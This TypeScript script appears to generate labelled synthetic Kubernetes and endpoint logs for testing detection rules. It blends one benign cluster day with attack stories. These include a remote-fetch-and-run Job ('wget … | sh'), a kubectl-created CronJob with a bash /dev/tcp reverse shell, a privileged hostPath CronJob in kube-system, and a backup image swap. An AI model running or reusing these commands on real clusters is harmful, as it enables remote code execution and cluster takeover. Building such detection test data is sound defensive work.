/**
 * Writes `samples/`: one day (2026-11-24 UTC) of a small AKS-style cluster with the attack
 * stories of issue 6 woven in, plus `samples/labels.json` saying which records belong to
 * which story (everything unlabelled is benign). Seeded: the same files every run.
 *
 * Benign: the cronjob-controller/job-controller running three legitimate CronJobs (db-backup
 * nightly, daily-report on weekdays, queue-drain every 15 minutes) with their Jobs and Pods,
 * kube-state-metrics watching CronJobs, CI deploying the web Deployment and bumping the
 * report CronJob's image tag, admins running kubectl get pods / describe.
 *
 * Run: `npx tsx scripts/gen-samples.ts`.
 */
import { writeFileSync } from 'node:fs';
import {
  ADMIN_WS,
  auditdExec,
  fileCreate,
  KUBECTL_WIN,
  NODE,
  POWERSHELL,
  processCreate,
  setEndpointClock,
} from './gen-endpoint-rule-tests.js';
import {
  AGENTS,
  audit,
  BACKUP,
  type CronJobOptions,
  createCronJob,
  createJob,
  cronJob,
  jobOfCronJob,
  PEOPLE,
  podOfJob,
  REPORT,
  REVERSE_SHELL,
  setClock,
  workload,
} from './gen-rule-tests.js';

type Json = Record<string, unknown>;

const DAY = Date.parse('2026-11-24T00:00:00Z');
const OUT = new URL('../samples/', import.meta.url).pathname;

/** mulberry32: a tiny seeded PRNG so the day is the same every run. */
function prng(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const random = prng(20261124);

interface Timed {
  readonly timeMs: number;
  readonly text: string;
  readonly story?: string;
  readonly lines: number;
}

const audits: Timed[] = [];
const adminWs: Timed[] = [];
const bastion: Timed[] = [];
const node: Timed[] = [];
const activity: { record: Json; story: string }[] = [];

function at(hour: number, minute: number, second = 0): number {
  return DAY + ((hour * 60 + minute) * 60 + second) * 1000 - 37_000;
}

function push(list: Timed[], timeMs: number, event: Json, story?: string): void {
  list.push({ timeMs, text: JSON.stringify(event), ...(story ? { story } : {}), lines: 1 });
}

function auditAt(
  hour: number,
  minute: number,
  build: () => Json,
  story?: string,
  second?: number,
): void {
  setClock(at(hour, minute, second ?? Math.floor(random() * 30)));
  const event = build();
  push(audits, Date.parse(String(event.stageTimestamp)), event, story);
}

const QUEUE_DRAIN: CronJobOptions = {
  name: 'queue-drain',
  namespace: 'shop',
  schedule: '*/15 * * * *',
  containers: [
    { name: 'drain', image: 'registry.example.com/shop/queue-drain:1.8.2', args: ['--max=500'] },
  ],
};

function scheduledRun(cron: CronJobOptions, hour: number, minute: number): void {
  const minutes = Math.floor((DAY + (hour * 60 + minute) * 60_000) / 60_000);
  auditAt(hour, minute, () => jobOfCronJob(cron, minutes));
  // The job-controller creates the pod a few seconds after the Job.
  auditAt(
    hour,
    minute,
    () => podOfJob(`${cron.name}-${minutes}`, cron.namespace, cron.containers),
    undefined,
    45,
  );
}

// --- benign day -------------------------------------------------------------------------
for (let hour = 0; hour < 24; hour++) {
  for (const minute of [0, 15, 30, 45]) scheduledRun(QUEUE_DRAIN, hour, minute);
  auditAt(hour, 7, () =>
    audit({
      verb: 'list',
      resource: 'cronjobs',
      user: PEOPLE.ksm,
      level: 'Request',
      userAgent: 'kube-state-metrics/v2.12.0',
      sourceIP: '10.244.2.9',
    }),
  );
  auditAt(hour, 37, () =>
    audit({
      verb: 'list',
      resource: 'jobs',
      user: PEOPLE.ksm,
      level: 'Request',
      userAgent: 'kube-state-metrics/v2.12.0',
      sourceIP: '10.244.2.9',
    }),
  );
}
scheduledRun(BACKUP, 1, 30);
scheduledRun(REPORT, 6, 0);
for (const [hour, tag] of [
  [9, '4.2.1'],
  [13, '4.2.2'],
  [16, '4.3.0'],
] as const) {
  auditAt(hour, 12, () =>
    audit({
      verb: 'patch',
      resource: 'deployments',
      apiGroup: 'apps',
      namespace: 'shop',
      name: 'web',
      user: PEOPLE.ci,
      userAgent: AGENTS.helm,
      request: {
        spec: {
          template: {
            spec: { containers: [{ name: 'web', image: `registry.example.com/shop/web:${tag}` }] },
          },
        },
      },
      response: workload(
        'Deployment',
        {
          name: 'web',
          namespace: 'shop',
          containers: [{ name: 'web', image: `registry.example.com/shop/web:${tag}` }],
        },
        true,
      ),
    }),
  );
}
// CI bumps the report CronJob's image: inventory-level findings expected (CW-001, CW-007, CW-009 low).
const REPORT_NEXT: CronJobOptions = {
  ...REPORT,
  containers: [
    {
      ...(REPORT.containers[0] as { name: string; image: string }),
      image: 'registry.example.com/analytics/report:2.4.0',
    },
  ],
};
auditAt(10, 5, () =>
  audit({
    verb: 'update',
    resource: 'cronjobs',
    namespace: 'analytics',
    name: 'daily-report',
    user: PEOPLE.ci,
    userAgent: AGENTS.helm,
    request: cronJob(REPORT_NEXT, true),
    response: cronJob(REPORT_NEXT, true),
  }),
);

// --- attack stories ---------------------------------------------------------------------
// S1: stolen kubeconfig → every-minute CronJob with a reverse shell, and the pods it spawns.
auditAt(
  14,
  2,
  () => createCronJob(PEOPLE.mallory, REVERSE_SHELL, { sourceIP: '203.0.113.66' }),
  'S1-stolen-kubeconfig-reverse-shell',
);
for (const minute of [3, 4]) {
  const minutes = Math.floor((DAY + (14 * 60 + minute) * 60_000) / 60_000);
  auditAt(
    14,
    minute,
    () => jobOfCronJob(REVERSE_SHELL, minutes),
    'S1-stolen-kubeconfig-reverse-shell',
  );
  auditAt(
    14,
    minute,
    () => podOfJob(`${REVERSE_SHELL.name}-${minutes}`, 'default', REVERSE_SHELL.containers),
    'S1-stolen-kubeconfig-reverse-shell',
    45,
  );
}
// S2: a web pod's service-account token creates a Job.
auditAt(
  15,
  20,
  () =>
    createJob(
      PEOPLE.webPod,
      {
        name: 'cache-warm',
        namespace: 'shop',
        containers: [
          {
            name: 'w',
            image: 'alpine:3.20',
            command: ['sh', '-c', 'wget -qO- http://203.0.113.9/m | sh'],
          },
        ],
      },
      { userAgent: AGENTS.curl, sourceIP: '10.244.1.17' },
    ),
  'S2-pod-token-job',
);
// S3: the legitimate backup CronJob's image is swapped by a strategic patch (Request level).
auditAt(
  17,
  41,
  () =>
    audit({
      verb: 'patch',
      resource: 'cronjobs',
      namespace: 'payments',
      name: 'db-backup',
      user: PEOPLE.mallory,
      level: 'Request',
      sourceIP: '203.0.113.66',
      request: {
        spec: {
          jobTemplate: {
            spec: {
              template: {
                spec: { containers: [{ name: 'backup', image: 'ghcr.io/x0r/pg-backup:15.4' }] },
              },
            },
          },
        },
      },
    }),
  'S3-backup-image-tampering',
);
// S4: manual trigger of the tampered backup right away.
auditAt(
  17,
  43,
  () =>
    createJob(PEOPLE.mallory, {
      name: 'db-backup-manual-q9z',
      namespace: 'payments',
      containers: [{ name: 'backup', image: 'ghcr.io/x0r/pg-backup:15.4' }],
      metadata: {
        annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' },
        ownerReferences: [
          { apiVersion: 'batch/v1', kind: 'CronJob', name: 'db-backup', controller: true },
        ],
      },
    }),
  'S4-manual-trigger',
);
// S5: privileged hostPath CronJob hidden in kube-system.
auditAt(
  19,
  10,
  () =>
    createCronJob(PEOPLE.mallory, {
      name: 'kube-proxy-healthz',
      namespace: 'kube-system',
      schedule: '*/5 * * * *',
      containers: [
        {
          name: 'h',
          image: 'busybox:1.36',
          command: ['chroot', '/host', 'sh', '-c', 'id'],
          securityContext: { privileged: true },
        },
      ],
      extra: { hostPID: true, volumes: [{ name: 'host', hostPath: { path: '/' } }] },
    }),
  'S5-privileged-kube-system-cronjob',
);
// S6: the same actor through the Azure data plane (Activity Log).
activity.push({
  story: 'S6-azure-activity',
  record: {
    time: new Date(at(14, 1)).toISOString(),
    resourceId:
      '/SUBSCRIPTIONS/0B1F6471-1BF0-4DDA-AEC3-CB9272F09590/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-PROD',
    operationName: 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE',
    category: 'Administrative',
    resultType: 'Success',
    callerIpAddress: '203.0.113.66',
    caller: 'mallory@contractor.example',
    level: 'Information',
    status: 'Succeeded',
    correlationId: '6c1f7a52-4d0e-4b8a-9a51-2f3e4d5c6b7a',
  },
});
activity.push({
  story: '',
  record: {
    time: new Date(at(9, 30)).toISOString(),
    resourceId:
      '/SUBSCRIPTIONS/0B1F6471-1BF0-4DDA-AEC3-CB9272F09590/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-PROD',
    operationName: 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/LISTCLUSTERUSERCREDENTIAL/ACTION',
    category: 'Administrative',
    resultType: 'Success',
    callerIpAddress: '198.51.100.20',
    caller: 'alice@example.com',
    level: 'Information',
    status: 'Succeeded',
    correlationId: '0d9e8f7a-6b5c-4d3e-8f1a-2b3c4d5e6f70',
  },
});

// Endpoint: benign admin work, then S7 (Sysmon, admin workstation), S8 (auditd, bastion),
// S9 (manifest dropped on a node).
function endpoint(list: Timed[], hour: number, minute: number, text: string, story?: string): void {
  list.push({
    timeMs: at(hour, minute),
    text,
    ...(story ? { story } : {}),
    lines: text.split('\n').length,
  });
}
setEndpointClock(at(9, 40));
endpoint(
  adminWs,
  9,
  40,
  processCreate(
    ADMIN_WS,
    KUBECTL_WIN,
    'kubectl.exe -n shop get pods -o wide',
    'CORP\\alice',
    POWERSHELL,
  ),
);
endpoint(
  adminWs,
  9,
  41,
  processCreate(
    ADMIN_WS,
    KUBECTL_WIN,
    'kubectl.exe -n shop describe deployment web',
    'CORP\\alice',
    POWERSHELL,
  ),
);
setEndpointClock(at(13, 58));
endpoint(
  adminWs,
  13,
  58,
  processCreate(
    ADMIN_WS,
    KUBECTL_WIN,
    `"${KUBECTL_WIN}" --kubeconfig C:\\Users\\Public\\k.conf create cronjob kube-metrics-sync --image=alpine:3.20 --schedule="*/1 * * * *" -- /bin/sh -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"`,
    'CORP\\mallory',
    POWERSHELL,
  ),
  'S7-kubectl-admin-workstation',
);
setEndpointClock(at(17, 40));
endpoint(bastion, 8, 30, auditdExec('/usr/local/bin/kubectl', ['kubectl', 'get', 'nodes'], 1000));
endpoint(
  bastion,
  17,
  40,
  auditdExec(
    '/usr/local/bin/kubectl',
    [
      'kubectl',
      '-n',
      'payments',
      'create',
      'job',
      'db-backup-manual-q9z',
      '--from=cronjob/db-backup',
    ],
    1001,
  ),
  'S8-kubectl-linux-auditd',
);
setEndpointClock(at(19, 5));
endpoint(
  node,
  3,
  0,
  fileCreate(
    NODE,
    '/usr/bin/containerd',
    '/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db',
    'root',
  ),
);
endpoint(
  node,
  19,
  5,
  fileCreate(NODE, '/usr/bin/cp', '/etc/kubernetes/manifests/kube-proxy-healthz.yaml', 'root'),
  'S9-manifest-on-node',
);

// --- write ------------------------------------------------------------------------------
interface Label {
  readonly file: string;
  readonly fromLine: number;
  readonly toLine: number;
  readonly story: string;
}
const labels: Label[] = [];
const SCENARIO_FILES = [
  'audit.jsonl',
  'activity-log.jsonl',
  'sysmon-admin-ws.xml',
  'auditd-bastion.log',
  'sysmon-node.xml',
];

function writeLines(file: string, records: Timed[]): void {
  records.sort((a, b) => a.timeMs - b.timeMs);
  let line = 1;
  for (const record of records) {
    if (record.story)
      labels.push({ file, fromLine: line, toLine: line + record.lines - 1, story: record.story });
    line += record.lines;
  }
  writeFileSync(`${OUT}${file}`, `${records.map((r) => r.text).join('\n')}\n`);
}

writeLines('audit.jsonl', audits);
writeLines('sysmon-admin-ws.xml', adminWs);
writeLines('auditd-bastion.log', bastion);
writeLines('sysmon-node.xml', node);
activity.sort((a, b) => String(a.record.time).localeCompare(String(b.record.time)));
writeFileSync(
  `${OUT}activity-log.jsonl`,
  `${activity.map((a) => JSON.stringify(a.record)).join('\n')}\n`,
);
activity.forEach((a, index) => {
  if (a.story)
    labels.push({
      file: 'activity-log.jsonl',
      fromLine: index + 1,
      toLine: index + 1,
      story: a.story,
    });
});
writeFileSync(
  `${OUT}labels.json`,
  `${JSON.stringify({ description: 'The files of the scenario set; records of each attack story (1-based line ranges); every other record of these files is benign.', files: SCENARIO_FILES, labels }, null, 2)}\n`,
);
